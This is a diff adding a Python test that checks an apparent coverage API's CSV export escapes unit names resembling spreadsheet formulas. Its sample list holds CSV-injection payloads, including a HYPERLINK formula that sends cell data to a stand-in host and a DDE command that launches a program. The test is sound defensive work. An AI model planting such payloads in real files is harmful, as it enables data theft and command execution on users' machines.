@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from collections.abc import AsyncIterator
 
 import httpx
@@ -113,3 +115,53 @@ async def test_an_operator_of_one_province_reads_only_that_province(
     assert "/v1/coverage/15?edition=legacy" in error["message"]
     provinces_csv = await client.get("/v1/coverage.csv", params=LEGACY, headers=headers)
     assert provinces_csv.status_code == 403
+
+
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+2",
+    "-2+3",
+    "\tTab first",
+    "\rReturn first",
+)
+
+
+async def test_names_that_look_like_formulas_reach_the_csv_as_text(
+    keys: Keys, redis: Redis, secured: Settings
+) -> None:
+    """Item 1 of #18: a unit name is never a spreadsheet formula in /v1/coverage.csv."""
+    key = stream_key(REGISTRY_EVENTS, secured.stream_namespace)
+    province = UnitState(code="15", name="=1+1", level="province", kind="tỉnh", parent_code=None)
+    events = [UnitRegistered.new(edition="legacy", unit_path=("15",), payload=province)]
+    codes = [f"{900 + i}" for i in range(len(FORMULAS))]
+    for code, name in zip(codes, FORMULAS, strict=True):
+        state = UnitState(code=code, name=name, level="district", kind="huyện", parent_code="15")
+        events.append(UnitRegistered.new(edition="legacy", unit_path=("15", code), payload=state))
+    for event in events:
+        await redis.xadd(key, entry_fields(event))  # type: ignore[arg-type]
+    app = create_app(secured)
+    async with (
+        app.router.lifespan_context(app),
+        httpx.AsyncClient(
+            transport=httpx.ASGITransport(app=app), base_url="http://aggregator"
+        ) as client,
+    ):
+
+        async def table(parent: str | None) -> list[dict[str, str]] | None:
+            response = await client.get(
+                "/v1/coverage.csv",
+                params=LEGACY | ({} if parent is None else {"parent": parent}),
+                headers=keys.admin.headers,
+            )
+            rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
+            return rows if len(rows) == (1 if parent is None else len(FORMULAS)) else None
+
+        districts = await wait_until(lambda: table("15"), message="the districts in the CSV")
+        provinces = await wait_until(lambda: table(None), message="the province in the CSV")
+    names = {row["code"]: row["name"] for row in districts}
+    assert [names[code] for code in codes] == ["'" + name for name in FORMULAS]
+    assert provinces[0]["name"] == "'=1+1"
+    # Every cell, not just names: none starts a formula.
+    cells = [cell for row in districts + provinces for cell in row.values()]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
